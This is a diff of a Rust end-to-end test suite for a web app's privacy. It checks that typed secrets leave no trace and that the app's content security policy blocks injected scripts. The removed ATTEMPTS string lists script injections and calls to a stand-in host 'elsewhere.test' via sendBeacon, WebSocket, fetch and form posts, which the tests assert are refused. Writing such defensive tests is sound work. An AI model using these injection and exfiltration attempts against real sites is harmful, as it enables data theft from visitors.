@@ -1,68 +1,31 @@
 //! What is typed leaves no trace but where the visitor wants it: no request, no address, no title, no
 //! word in the console; and what is cleared is gone from everything a browser keeps.
 
-use end_to_end::browser::{Browser, Seen, Settings, Visit, Way, browse, find, seen, wait_for_text, wait_until};
-use end_to_end::form::{answer_all, open};
-use end_to_end::in_every_browser;
+use end_to_end::browser::{Seen, seen};
+use end_to_end::form::{answer_all, standing, wait_for_standing};
 use end_to_end::print;
-use end_to_end::site::published_with_wasm;
-use serde_json::{Value, json};
-use thirtyfour::prelude::*;
+use end_to_end::visitor::prelude::*;
 
 in_every_browser!(
     nothing_is_asked_for_once_a_page_has_loaded,
-    cleared_is_gone_from_all_that_a_browser_keeps,
+    what_is_kept_comes_back_and_what_is_cleared_is_gone,
     the_policy_holds_where_a_script_gets_in,
 );
 
 /// Stands for what a visitor would not have others know.
 const SECRET: &str = "卓玛措密语";
+const CHECKLIST: &str = "checklists/science-societies/index.html";
 
-/// Words that tell whether the typed ones lie anywhere: addresses, title, stores. `IndexedDB` and caches
-/// are asked later than the page answers, so the script calls back.
-const TRACES: &str = "
-    const secrets = arguments[0];
-    const done = arguments[arguments.length - 1];
-    const found = [];
-    function look(place, text) {
-        let plain = String(text);
-        try { plain += decodeURIComponent(plain); } catch (error) { plain += ''; }
-        secrets.forEach(function (secret) { if (plain.indexOf(secret) >= 0) found.push(place + ': ' + plain.slice(0, 200)); });
-    }
-    look('address', location.href);
-    look('title', document.title);
-    look('name', window.name);
-    look('cookie', document.cookie);
-    look('history', JSON.stringify(history.state));
-    [['localStorage', localStorage], ['sessionStorage', sessionStorage]].forEach(function (store) {
-        for (let at = 0; at < store[1].length; at++) {
-            const key = store[1].key(at);
-            look(store[0], key + store[1].getItem(key));
-        }
-    });
-    performance.getEntriesByType('resource').forEach(function (entry) { look('request', entry.name); });
-    const databases = indexedDB.databases ? indexedDB.databases() : Promise.resolve([]);
-    databases.then(function (all) {
-        all.forEach(function (database) { found.push('IndexedDB ' + database.name); });
-        return caches.keys();
-    }).then(function (keys) {
-        return Promise.all(keys.map(function (key) {
-            return caches.open(key).then(function (cache) { return cache.keys(); });
-        }));
-    }).then(function (kept) {
-        kept.forEach(function (requests) { requests.forEach(function (request) { look('cache', request.url); }); });
-        done(found);
-    }, function (error) { done(found.concat(String(error))); });";
-
-async fn traces(driver: &WebDriver, secrets: &[&str]) -> WebDriverResult<Vec<String>> {
-    let found = driver.execute_async(TRACES, vec![json!(secrets)]).await?;
-    Ok(serde_json::from_value(found.json().clone())?)
+/// Where any of these words lie: addresses, title, stores.
+async fn traces(visitor: &Visitor, secrets: &[&str]) -> WebDriverResult<Vec<String>> {
+    visitor.run_async(include_str!("scripts/traces.js"), &[json!(secrets)]).await
 }
 
 /// Takes what was noted; asserts that since the last time nothing was asked for but the page's own
 /// downloads, which come from its memory.
-async fn assert_silent(browser: Browser, driver: &WebDriver, what: &str, log: &mut Vec<String>) -> WebDriverResult<()> {
-    let Seen { console, requests } = seen(browser, driver).await?;
+async fn assert_silent(visitor: &Visitor, what: &str, log: &mut Vec<String>) -> Done {
+    let browser = visitor.browser;
+    let Seen { console, requests } = seen(browser, visitor).await?;
     let asked: Vec<&String> = requests.iter().filter(|address| !address.starts_with("blob:")).collect();
     assert!(asked.is_empty(), "{browser:?}: {what} asked for {asked:#?}");
     assert!(console.is_empty(), "{browser:?}: {what} said {console:#?}");
@@ -71,230 +34,174 @@ async fn assert_silent(browser: Browser, driver: &WebDriver, what: &str, log: &m
     Ok(())
 }
 
-async fn type_into(driver: &WebDriver, css: &str, words: &str) -> WebDriverResult<()> {
-    let field = find(driver, css).await?;
-    field.clear().await?;
-    field.send_keys(words).await
+/// Presses each button of a page, and asserts that it asks for nothing.
+async fn press_silently(visitor: &Visitor, buttons: &[&str], log: &mut Vec<String>) -> Done {
+    for css in buttons {
+        visitor.click(css).await?;
+        assert_silent(visitor, css, log).await?;
+    }
+    Ok(())
 }
 
-/// The printer would wait for a person.
-const NO_PRINTER: &str = "window.printed = 0; window.print = function () { window.printed += 1; };";
-const PRINTED: &str = "return window.printed > 0;";
+/// Opens a page, without a printer, which would wait for a person; forgets what was asked for until now.
+async fn open(visitor: &Visitor, page: &str) -> WebDriverResult<Seen> {
+    visitor.open(page).await?;
+    visitor.act("window.printed = 0; window.print = () => { window.printed += 1; };", &[]).await?;
+    seen(visitor.browser, visitor).await
+}
+
+async fn assert_only_kept(visitor: &Visitor, secret: &str) -> Done {
+    let found = traces(visitor, &[secret]).await?;
+    assert!(!found.is_empty() && found.iter().all(|place| place.starts_with("localStorage: ")), "{found:#?}");
+    Ok(())
+}
 
 fn nothing_is_asked_for_once_a_page_has_loaded(browser: Browser) {
-    let visit = Visit::new(published_with_wasm(), Way::SubPath);
-    let folder = tempfile::tempdir().expect("a folder for downloads");
     let mut log = Vec::new();
-    browse(Settings { downloads: Some(folder.path()), ..browser.into() }, async |driver| {
+    visit(browser, Way::SubPath, async |visitor| {
         // The self-check: answered, sent, saved, looked over, printed, cleared.
-        open(&driver, &visit).await?;
-        driver.execute(NO_PRINTER, Vec::new()).await?;
-        wait_until(&driver, "the page whole", "return document.readyState === 'complete';").await?;
-        let loaded = seen(browser, &driver).await?;
+        let loaded = open(visitor, "check/index.html").await?;
         assert!(loaded.requests.iter().any(|address| address.contains("/assets/")), "what is asked for is noted");
         let persona = json!({"matter": "reelect", "council_formal": 4271, "council_probationary": 0, "seats": 5});
-        answer_all(&driver, &persona).await?;
-        assert_silent(browser, &driver, "answering", &mut log).await?;
-        for (what, css) in
-            [("copying the link", "#check-copy"), ("saving answers", "#check-download"), ("keeping", "#check-keep")]
-        {
-            find(&driver, css).await?.click().await?;
-            assert_silent(browser, &driver, what, &mut log).await?;
-        }
-        find(&driver, "#check-review-open").await?.click().await?;
-        find(&driver, ".review-tools .button").await?.click().await?;
-        wait_until(&driver, "the print dialog", PRINTED).await?;
-        find(&driver, ".review-tools .button:nth-child(3)").await?.click().await?;
-        assert_silent(browser, &driver, "printing and the editors' case", &mut log).await?;
-        let found = traces(&driver, &["4271"]).await?;
-        assert!(found.iter().all(|place| place.starts_with("localStorage: ")), "{browser:?}: {found:#?}");
-        find(&driver, ".review-tools .button:nth-child(2)").await?.click().await?;
-        find(&driver, "#check-form button[type=reset]").await?.click().await?;
-        wait_for_text(&driver, "#check-note", "已清除").await?;
-        assert_silent(browser, &driver, "clearing answers", &mut log).await?;
+        answer_all(visitor, &persona).await?;
+        assert_silent(visitor, "answering", &mut log).await?;
+        let buttons = ["#check-copy", "#check-download", "#check-keep", "#check-review-open", ".review-tools .button"];
+        press_silently(visitor, &buttons, &mut log).await?;
+        visitor.until("window.printed > 0").await?;
+        press_silently(visitor, &[".review-tools .button:nth-child(3)"], &mut log).await?;
+        assert_only_kept(visitor, "4271").await?;
+        visitor.click(".review-tools .button:nth-child(2)").await?;
+        press_silently(visitor, &["#check-form button[type=reset]"], &mut log).await?;
+        visitor.says("#check-note", "已清除").await?;
 
         // A form: filled in, as a Word file, as an archive, printed, saved, cleared.
-        driver.goto(visit.url("fill/index.html#form=template-1")).await?;
-        find(&driver, "#fill-preview .paper").await?;
-        driver.execute(NO_PRINTER, Vec::new()).await?;
-        seen(browser, &driver).await?;
-        type_into(&driver, "#field-society", SECRET).await?;
-        wait_for_text(&driver, "#fill-preview .paper", SECRET).await?;
-        assert_silent(browser, &driver, "filling in", &mut log).await?;
-        for id in ["fill-word", "fill-all", "fill-print", "fill-save", "fill-keep"] {
-            find(&driver, &format!("#{id}")).await?.click().await?;
-            assert_silent(browser, &driver, id, &mut log).await?;
-        }
-        wait_until(&driver, "the print dialog", PRINTED).await?;
-        let found = traces(&driver, &[SECRET]).await?;
-        assert!(found.iter().all(|place| place.starts_with("localStorage: ")), "{browser:?}: {found:#?}");
-        find(&driver, "#fill-clear").await?.click().await?;
-        assert_silent(browser, &driver, "clearing a form", &mut log).await?;
+        open(visitor, "fill/index.html#form=template-1").await?;
+        visitor.type_over("#field-society", SECRET).await?;
+        visitor.says("#fill-preview .paper", SECRET).await?;
+        assert_silent(visitor, "filling in", &mut log).await?;
+        let buttons = ["#fill-word", "#fill-all", "#fill-print", "#fill-save", "#fill-keep"];
+        press_silently(visitor, &buttons, &mut log).await?;
+        visitor.until("window.printed > 0").await?;
+        assert_only_kept(visitor, SECRET).await?;
+        press_silently(visitor, &["#fill-clear"], &mut log).await?;
 
         // A checklist.
-        driver.goto(visit.url("checklists/science-societies/index.html")).await?;
-        find(&driver, "#checklist-counts").await?;
-        driver.execute(NO_PRINTER, Vec::new()).await?;
-        seen(browser, &driver).await?;
-        type_into(&driver, "#head-society", SECRET).await?;
-        type_into(&driver, "[data-note]", SECRET).await?;
-        find(&driver, "#checklist input[type=radio]").await?.click().await?;
-        for id in ["checklist-keep", "checklist-save", "checklist-print"] {
-            find(&driver, &format!("#{id}")).await?.click().await?;
-        }
-        wait_until(&driver, "the print dialog", PRINTED).await?;
-        assert_silent(browser, &driver, "a checklist", &mut log).await?;
-        find(&driver, "#checklist button[type=reset]").await?.click().await?;
+        open(visitor, CHECKLIST).await?;
+        visitor.type_over("#head-society", SECRET).await?;
+        visitor.type_over("[data-note]", SECRET).await?;
+        let buttons = ["#checklist input[type=radio]", "#checklist-keep", "#checklist-save", "#checklist-print"];
+        press_silently(visitor, &buttons, &mut log).await?;
+        visitor.until("window.printed > 0").await?;
+        press_silently(visitor, &["#checklist button[type=reset]"], &mut log).await?;
 
-        // Days.
-        driver.goto(visit.url("calendar/index.html")).await?;
-        find(&driver, "[data-on]").await?;
-        seen(browser, &driver).await?;
-        set_day(&driver, "2031-03-04").await?;
-        find(&driver, "#calendar button[type=submit]").await?.click().await?;
-        wait_for_text(&driver, "#calendar-said", "已存下").await?;
-        assert_silent(browser, &driver, "days", &mut log).await?;
-        assert_eq!(traces(&driver, &[SECRET, "4271", "2031-03-04"]).await?, [""; 0], "{browser:?}");
+        // Days. A field for a day takes its digits in the order of the browser's language; a script sets it the same.
+        open(visitor, "calendar/index.html").await?;
+        visitor.act("document.querySelector('[data-on]').value = '2031-03-04';", &[]).await?;
+        press_silently(visitor, &["#calendar button[type=submit]"], &mut log).await?;
+        visitor.says("#calendar-said", "已存下").await?;
+        assert_eq!(traces(visitor, &[SECRET, "4271", "2031-03-04"]).await?, [""; 0], "{browser:?}");
         Ok(())
     });
     print(&log.join("\n"));
 }
 
-/// A date field takes its digits in the order of the browser's language; a script sets it the same everywhere.
-async fn set_day(driver: &WebDriver, day: &str) -> WebDriverResult<()> {
-    let script = "const field = document.querySelector('[data-on]');
-        field.value = arguments[0];
-        field.dispatchEvent(new Event('input', { bubbles: true }));";
-    driver.execute(script, vec![json!(day)]).await.map(|_| ())
+/// By another page and the browser's own way back.
+async fn leave_and_come_back(visitor: &Visitor, ready: &str) -> Done {
+    visitor.open("glossary/index.html").await?;
+    visitor.back().await?;
+    visitor.find(ready).await.map(|_| ())
 }
 
-fn cleared_is_gone_from_all_that_a_browser_keeps(browser: Browser) {
-    let visit = Visit::new(published_with_wasm(), Way::Root);
-    browse(browser, async |driver| {
-        // Kept and left, so that every store has had its chance; then cleared; then left again.
-        open(&driver, &visit).await?;
-        answer_all(&driver, &json!({"matter": "reelect", "council_formal": 4271, "council_probationary": 0})).await?;
-        find(&driver, "#check-keep").await?.click().await?;
-        leave_and_come_back(&driver, &visit, "#check-answer[data-ready] .verdict").await?;
-        assert!(!traces(&driver, &["4271"]).await?.is_empty(), "{browser:?}: what is kept is found");
-        find(&driver, "#check-form button[type=reset]").await?.click().await?;
-        wait_for_text(&driver, "#check-note", "已清除").await?;
-        leave_and_come_back(&driver, &visit, "#check-answer[data-ready]").await?;
-        assert_eq!(traces(&driver, &["4271"]).await?, [""; 0], "{browser:?}");
+fn what_is_kept_comes_back_and_what_is_cleared_is_gone(browser: Browser) {
+    visit(browser, Way::Root, async |visitor| {
+        // The self-check: the same answers and results again, until they are cleared.
+        visitor.open("check/index.html").await?;
+        answer_all(visitor, &json!({"matter": "reelect", "council_formal": 4271, "council_probationary": null}))
+            .await?;
+        let (before, results) = (standing(visitor).await?, visitor.text("#check-answer").await?);
+        visitor.until("localStorage.length === 0").await?;
+        visitor.click("#check-keep").await?;
+        visitor.open("check/index.html").await?;
+        wait_for_standing(visitor, &before).await?;
+        assert_eq!(visitor.text("#check-answer").await?, results, "{browser:?}: the same results again");
+        leave_and_come_back(visitor, "#check-answer[data-ready] .verdict").await?;
+        assert!(!traces(visitor, &["4271"]).await?.is_empty(), "{browser:?}: what is kept is found");
+        visitor.click("#check-form button[type=reset]").await?;
+        visitor.says("#check-note", "已清除").await?;
+        leave_and_come_back(visitor, "#check-answer[data-ready]").await?;
+        assert_eq!(traces(visitor, &["4271"]).await?, [""; 0], "{browser:?}");
+        visitor.open("check/index.html").await?;
+        wait_for_standing(visitor, &json!({})).await?;
 
-        driver.goto(visit.url("fill/index.html#form=template-1")).await?;
-        find(&driver, "#fill-preview .paper").await?;
-        type_into(&driver, "#field-society", SECRET).await?;
-        find(&driver, "#fill-keep").await?.click().await?;
-        leave_and_come_back(&driver, &visit, "#fill-preview .paper").await?;
-        assert!(!traces(&driver, &[SECRET]).await?.is_empty(), "{browser:?}: what is kept is found");
-        find(&driver, "#fill-clear").await?.click().await?;
-        wait_for_text(&driver, "#fill-note", "已清除").await?;
-        leave_and_come_back(&driver, &visit, "#fill-preview .paper").await?;
-        assert_eq!(traces(&driver, &[SECRET]).await?, [""; 0], "{browser:?}");
+        // A form and a checklist: a field, the tick to keep it, what says that it is back, how it is cleared.
+        for (page, ready, field, keep, said, clear) in [
+            (
+                "fill/index.html#form=template-1",
+                "#fill-title",
+                "#field-society",
+                "#fill-keep",
+                "#fill-note",
+                "#fill-clear",
+            ),
+            (
+                CHECKLIST,
+                "#checklist",
+                "#head-society",
+                "#checklist-keep",
+                "#checklist-said",
+                "#checklist button[type=reset]",
+            ),
+        ] {
+            visitor.open(page).await?;
+            visitor.type_over(field, SECRET).await?;
+            visitor.until("localStorage.length === 0").await?;
+            visitor.click(keep).await?;
+            visitor.refresh().await?;
+            visitor.says(said, "已填入本机记住的内容").await?;
+            assert_eq!(visitor.typed(field).await?, SECRET, "{browser:?}, {page}: it is back");
+            leave_and_come_back(visitor, ready).await?;
+            assert!(!traces(visitor, &[SECRET]).await?.is_empty(), "{browser:?}: what is kept is found");
+            visitor.click(clear).await?;
+            visitor.says(said, "已清除").await?;
+            assert_eq!(visitor.typed(field).await?, "", "{browser:?}, {page}: nothing is shown");
+            leave_and_come_back(visitor, ready).await?;
+            assert_eq!(traces(visitor, &[SECRET]).await?, [""; 0], "{browser:?}, {page}");
+        }
 
-        driver.goto(visit.url("checklists/science-societies/index.html")).await?;
-        type_into(&driver, "#head-society", SECRET).await?;
-        find(&driver, "#checklist-keep").await?.click().await?;
-        leave_and_come_back(&driver, &visit, "#checklist-counts").await?;
-        assert!(!traces(&driver, &[SECRET]).await?.is_empty(), "{browser:?}: what is kept is found");
-        find(&driver, "#checklist button[type=reset]").await?.click().await?;
-        wait_for_text(&driver, "#checklist-said", "已清除").await?;
-        leave_and_come_back(&driver, &visit, "#checklist-counts").await?;
-        assert_eq!(traces(&driver, &[SECRET]).await?, [""; 0], "{browser:?}");
-
-        driver.goto(visit.url("search/index.html")).await?;
-        type_into(&driver, "#search-words", "差额").await?;
-        find(&driver, ".search-hit").await?;
-        find(&driver, "#search-words").await?.send_keys(Key::Enter).await?;
+        // A search, from the box of another page; offered again there and on the search page.
+        visitor.open("guide/part-3/index.html").await?;
+        visitor.send("#search-words", "差额").await?;
+        visitor.find(".search-option mark").await?;
+        visitor.send("#search-words", Key::Enter).await?;
+        visitor.find(".search-hit").await?;
         // Firefox warns of scripts that are still on their way when a page is left.
-        let ready = "return !document.getElementById('search-filters').hidden;";
-        wait_until(&driver, "the filters offered", ready).await?;
-        driver.goto(visit.url("glossary/index.html")).await?;
-        find(&driver, "main[data-page=glossary]").await?;
-        driver.goto(visit.url("search/index.html")).await?;
-        wait_for_text(&driver, "#search-remarks", "差额").await?;
-        find(&driver, "#search-remarks .button").await?.click().await?;
-        wait_until(&driver, "no remarks", "return !document.querySelector('#search-remarks *');").await?;
-        assert_eq!(traces(&driver, &["差额"]).await?, [""; 0], "{browser:?}");
+        visitor.until("!document.getElementById('search-filters').hidden").await?;
+        visitor.open("glossary/index.html").await?;
+        visitor.click("#search-words").await?;
+        visitor.says(".search-status", "最近查找").await?;
+        assert_eq!(visitor.text(".search-option").await?, "差额", "{browser:?}");
+        visitor.open("search/index.html").await?;
+        visitor.says("#search-remarks", "差额").await?;
+        visitor.click("#search-remarks .button").await?;
+        visitor.until("!document.querySelector('#search-remarks *')").await?;
+        assert_eq!(traces(visitor, &["差额"]).await?, [""; 0], "{browser:?}");
         Ok(())
     });
 }
 
-/// By another page and the browser's own way back.
-async fn leave_and_come_back(driver: &WebDriver, visit: &Visit, ready: &str) -> WebDriverResult<()> {
-    driver.goto(visit.url("glossary/index.html")).await?;
-    find(driver, "main[data-page=glossary]").await?;
-    driver.back().await?;
-    find(driver, ready).await.map(|_| ())
-}
-
-/// Everything that a script of a stranger would try.
-const ATTEMPTS: &str = "
-    const done = arguments[arguments.length - 1];
-    const there = 'http://elsewhere.test/';
-    function add(tag, set) {
-        const node = document.createElement(tag);
-        Object.keys(set).forEach(function (name) { node.setAttribute(name, set[name]); });
-        document.body.appendChild(node);
-        return node;
-    }
-    function attempt(act) { try { act(); } catch (error) { return; } }
-    window.hostile = 0;
-    const refused = {};
-    const wanted = ['script-src', 'img-src', 'style-src', 'connect-src', 'form-action', 'base-uri', 'frame-src', 'object-src', 'media-src'];
-    document.addEventListener('securitypolicyviolation', function (event) {
-        refused[event.effectiveDirective.replace(/-(elem|attr)$/, '')] = true;
-        if (wanted.every(function (directive) { return refused[directive]; })) finish();
-    });
-    add('script', {}).appendChild(document.createTextNode('window.hostile += 1;'));
-    const inline = document.createElement('script');
-    inline.textContent = 'window.hostile += 1;';
-    document.body.appendChild(inline);
-    add('script', { src: there + 'a.js' });
-    add('script', { src: 'data:text/javascript,window.hostile+=1' });
-    add('p', { onclick: 'window.hostile += 1' }).click();
-    add('a', { href: 'javascript:window.hostile+=1' }).click();
-    add('img', { src: there + 'a.png' });
-    add('link', { rel: 'stylesheet', href: there + 'a.css' });
-    add('iframe', { src: there + 'a.html' });
-    add('object', { data: there + 'a.swf' });
-    add('video', { src: there + 'a.mp4' });
-    add('base', { href: there });
-    const box = add('p', { style: 'background: url(' + there + 'b.png)' });
-    attempt(function () { box.style.backgroundImage = 'url(' + there + 'c.png)'; });
-    attempt(function () { navigator.sendBeacon(there + 'd', 'x'); });
-    attempt(function () { new WebSocket('ws://elsewhere.test/'); });
-    attempt(function () { new EventSource(there + 'e'); });
-    attempt(function () { const request = new XMLHttpRequest(); request.open('GET', there + 'f'); request.send(); });
-    const form = add('form', { action: there + 'g', method: 'post' });
-    attempt(function () { form.submit(); });
-    const fetched = Promise.all([there + 'h', 'index.html'].map(function (address) {
-        return fetch(address).then(function () { return 'got ' + address; }, function () { return ''; });
-    }));
-    function finish() {
-        fetched.then(function (got) { done({ ran: window.hostile, got: got.join(''), here: location.href }); });
-    }";
-
 fn the_policy_holds_where_a_script_gets_in(browser: Browser) {
-    let visit = Visit::new(published_with_wasm(), Way::Root);
-    browse(browser, async |driver| {
+    visit(browser, Way::Root, async |visitor| {
         for page in ["about/index.html", "check/index.html", "fill/index.html"] {
-            driver.goto(visit.url(page)).await?;
-            find(&driver, "main[data-page]").await?;
-            wait_until(&driver, "the page loaded", "return document.readyState === 'complete';").await?;
-            seen(browser, &driver).await?;
-            let found: Value = driver.execute_async(ATTEMPTS, Vec::new()).await?.json().clone();
+            open(visitor, page).await?;
+            let found: Value = visitor.run_async(include_str!("scripts/attempts.js"), &[]).await?;
             assert_eq!((&found["ran"], &found["got"]), (&json!(0), &json!("")), "{browser:?}, {page}: {found}");
-            assert_eq!(found["here"], visit.url(page), "{browser:?}: the page is still here");
-            let seen = seen(browser, &driver).await?;
+            assert_eq!(found["here"], visitor.url(page), "{browser:?}: the page is still here");
+            let seen = seen(browser, visitor).await?;
             assert!(!seen.console.is_empty(), "{browser:?}, {page}: what was refused is told");
             let left: Vec<_> = seen.requests.iter().filter(|address| address.contains("elsewhere")).collect();
             assert!(left.is_empty(), "{browser:?}, {page}: {left:#?}");
         }
         // Some of it is told a little later.
-        driver.goto(visit.url("glossary/index.html")).await?;
-        find(&driver, "main[data-page=glossary]").await?;
-        seen(browser, &driver).await.map(|_| ())
+        open(visitor, "glossary/index.html").await.map(|_| ())
     });
 }
